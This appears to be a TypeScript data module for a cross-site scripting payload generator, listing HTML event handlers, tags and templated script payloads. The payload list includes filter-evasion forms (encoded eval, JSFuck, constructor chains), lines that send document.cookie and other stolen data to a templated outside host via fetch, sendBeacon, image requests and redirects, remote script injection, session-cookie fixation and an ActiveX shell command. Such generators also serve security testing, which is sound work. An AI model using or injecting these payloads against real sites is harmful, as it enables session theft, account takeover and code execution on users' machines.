/** Elements, events, sinks and gadgets that scripts get in by. */
import { lines, words } from "../lib/grammar.ts";

export const EVENTS = words`
  onload onload onload onerror onerror onerror onerror onclick onclick onmouseover onmouseover onmouseover onfocus onfocus
  onblur onchange onsubmit onreset onselect onkeypress onkeydown onkeyup onmouseenter onmouseleave onmousemove onmouseout
  onmouseup onmousedown onmousewheel onwheel ondblclick oncontextmenu ondrag ondragend ondragenter ondragleave ondragover
  ondragstart ondrop onscroll onresize onunload onbeforeunload onhashchange onpageshow onpagehide onpopstate onmessage
  onstorage onoffline ononline onbeforeprint onafterprint onbegin onend onrepeat onstart onfinish onbounce ontoggle
  onbeforetoggle onanimationstart onanimationend onanimationiteration onanimationcancel ontransitionend ontransitionrun
  ontransitionstart ontransitioncancel onpointerdown onpointerup onpointermove onpointerover onpointerenter onpointerleave
  onpointerout onpointercancel onpointerrawupdate ongotpointercapture onlostpointercapture ontouchstart ontouchend
  ontouchmove ontouchcancel oninput oninvalid onsearch oncut oncopy onpaste onbeforecut onbeforecopy onbeforepaste
  oncanplay oncanplaythrough ondurationchange onended onloadeddata onloadedmetadata onloadstart onpause onplay onplaying
  onprogress onratechange onseeked onseeking onstalled onsuspend ontimeupdate onvolumechange onwaiting onemptied oncuechange
  onabort onafterscriptexecute onbeforescriptexecute onshow onfocusin onfocusout onactivate onbeforeactivate
  onbeforedeactivate onreadystatechange onpropertychange onfilterchange onlosecapture onlayoutcomplete onhelp onerrorupdate
  ondataavailable ondatasetchanged onrowenter onrowexit oncellchange onbeforeeditfocus onbeforeupdate onafterupdate oncontrolselect
  onmove onmovestart onmoveend onresizestart onselectstart onselectionchange ontimeerror onfullscreenchange onscrollend
  onsecuritypolicyviolation onslotchange onunhandledrejection oncontentvisibilityautostatechange onwebkitanimationstart
  onwebkittransitionend onauxclick onformdata onbeforeinput onzoom ondeviceorientation onoutofsync onreverse onseek ontrackchange`;

export const TAGS = words`
  img img img svg svg svg body body iframe iframe input input video audio details a a a div object embed form button select
  textarea marquee math style link meta base frameset frame table td isindex keygen image video source track applet bgsound
  layer ilayer xml xss x b i p br h1 span label dialog section html head title template noscript noembed plaintext listing
  animate animatetransform set use foreignobject g rect circle text image desc script script fieldset legend menu menuitem
  summary picture map area portal custom-element slot canvas comment event-source nobr font strong em center blink ul li
  optgroup option datalist output meter progress param sleep xmp tt abbr article main time ruby col hr pre q s u var wbr`;

/** Script to run. */
export const SCRIPTS = lines`
  «pop»(«arg»)
  «pop»(«arg»)
  «pop»(«arg»)
  «pop»(«arg»)
  «pop»«bt»«argword»«bt»
  «pop»(«arg»);
  «pop»(«arg»)//
  window.«pop»(«arg»)
  window['«pop»'](«arg»)
  window["«po|al|ev»"+"«p|ert|al»"](«arg»)
  «top|self|parent|this|frames|globalThis|content|window»[«pieces»](«arg»)
  top[/al/.source+/ert/.source](«arg»)
  («pop»)(«arg»)
  (0,«pop»)(«arg»)
  ((«pop»))(«arg»)
  a=«pop»,a(«arg»)
  [«int»].«find|map|filter|forEach|every|some|findIndex»(«pop»)
  «eval|Function|setTimeout|setInterval|execScript|setImmediate»(«code»)
  «eval|Function|setTimeout|setInterval»(«code»)()
  new Function«bt»«pop»\\\`«int»\\\`«bt»
  eval(atob(«q»YWxlcnQo«base64»«q»))
  eval(String.fromCharCode(«codes»))
  eval(name)
  eval(location.hash.«slice|substr|substring»(1))
  eval(«bt»'«bt»+location)
  eval('\x61\x6c\x65\x72\x74\x28«int»\x29')
  eval("\u0061\u006c\u0065\u0072\u0074(«int»)")
  \u0061lert(«int»)
  \u{61}\u{6c}ert(«int»)
  al\u0065rt(«arg»)
  constructor.constructor("«pop»(«int»)")()
  []["filter"]["constructor"](«code»)()
  «[]|''|{}|(0)|/a/».constructor.constructor(«code»)()
  Reflect.«apply|construct»(«pop»,null,[«arg»])
  Object.assign(window,{onerror:«pop»});throw «int»
  onerror=«pop»;throw «int»
  {onerror=«pop»}throw «int»
  throw onerror=«pop»,«int»
  import('«jsurl»')
  import(/«url»/.source)
  $.getScript('«jsurl»')
  jQuery.globalEval('«pop»(«int»)')
  fetch('«jsurl»«?c=|/|?»'+«loot»)
  fetch('«url»',{method:'POST',body:«loot»})
  fetch(«bt»//«host»/\${«loot»}«bt»)
  navigator.sendBeacon('«jsurl»',«loot»)
  new Image().src='«url»?«rnd»='+«loot»
  new Image().src="//«host»/«rnd».php?c="+escape(«loot»)
  location«.href|»=«q»«jsurl»?«letter»=«q»+«loot»
  location«.href|.hash|»='javascript:«pop»(«int»)'
  window.location='«url»?cookie='+document.cookie
  document.location="«url»?c="+document.cookie
  document.write(«q»<«script|img|iframe» src=«jsurl»>«q»)
  document.«write|writeln»(String.fromCharCode(«codes»))
  document.body.innerHTML=«q»«rnd»«q»
  document.getElementById(«q»«rnd»«q»).«innerHTML|outerHTML|src|action|value»=«q»«rnd»«q»
  document.querySelector(«q»«rnd»«q»).insertAdjacentHTML(«q»«rnd»«q»,«rnd»)
  document.documentElement.innerHTML=«q»«rnd»«q»
  document.forms[0].action='«url»'
  document.body.appendChild(document.createElement(«q»script«q»)).src=«q»«jsurl»«q»
  var «v=rnd2»=document.createElement('«script|img|iframe»');«$v».src='«jsurl»';document.«body|head».appendChild(«$v»)
  with(document)body.appendChild(createElement(/script/.source)).src=«q»«jsurl»«q»
  var x=new XMLHttpRequest();x.open('GET','«url»',true);x.send(«loot»)
  document.cookie="«PHPSESSID|jsessionid|sid|session|«rnd»»=«hex32»«;path=/|;domain=.«host»;Expires=Friday, 1-Jan-2038 00:00:00 GMT;|»"
  open('«url»')
  print()
  debugger
  history.pushState(«digit»,«digit»,'«rnd»')
  localStorage.«getItem|setItem»('«rnd»')
  x=«pop»;x«bt»«int»«bt»
  !function(){«pop»(«int»)}()
  (function(){«pop»(«arg»)})()
  (()=>{«pop»(«arg»)})()
  (_=«pop»)=>_(«int»)
  try{«rnd»}catch(e){«pop»(e)}
  if(1){«pop»(«int»)}
  [][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]
  «jsfuck*8-40»
  ゚ω゚ﾉ= /｀ｍ´）ﾉ ~┻━┻ //*´∇｀*/ ['_']
  $=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$]}
  (![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]
  «v=Letter»=«pop»;«$v»(«int»)
  msgbox(«int»)
  MsgBox "«rnd»"
  execScript("MsgBox «int»","vbscript")
  ActiveXObject("WScript.Shell").Run("«calc|cmd»")`;
